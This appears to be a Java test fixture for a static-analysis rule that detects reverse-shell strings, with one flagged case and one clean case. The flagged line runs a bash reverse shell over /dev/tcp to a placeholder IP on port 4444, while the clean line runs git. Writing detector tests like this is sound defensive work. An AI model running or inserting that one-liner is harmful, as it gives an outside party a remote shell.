// Fixture for generic-reverse-shell-string.
// RULEID: Runtime exec of a /dev/tcp one-liner. OK: Runtime exec of git.
class Svc {
    void run() throws Exception {
        // ruleid: generic-reverse-shell-string
        Runtime.getRuntime().exec(new String[]{"bash", "-c", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"});
        // ok: generic-reverse-shell-string
        Runtime.getRuntime().exec(new String[]{"git", "rev-parse", "HEAD"});
    }
}
